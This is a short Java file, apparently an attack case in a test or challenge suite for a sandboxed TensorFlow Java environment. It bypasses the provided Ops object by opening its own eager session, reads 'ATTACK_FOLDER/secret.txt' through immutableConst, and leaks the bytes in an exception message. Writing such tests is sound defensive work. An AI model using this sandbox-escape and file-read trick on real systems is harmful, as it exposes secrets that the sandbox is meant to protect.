import org.tensorflow.EagerSession;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops handed) throws Throwable {
        // What the handed ones make is recorded, and refused by its type.
        Ops tf = Ops.create(EagerSession.create());
        byte[] bytes = new byte[16];
        tf.immutableConst(org.tensorflow.types.TUint8.class, Shape.of(16), "ATTACK_FOLDER/secret.txt")
                .asTensor()
                .asRawTensor()
                .data()
                .read(bytes);
        throw new IllegalStateException(new String(bytes));
    }
}
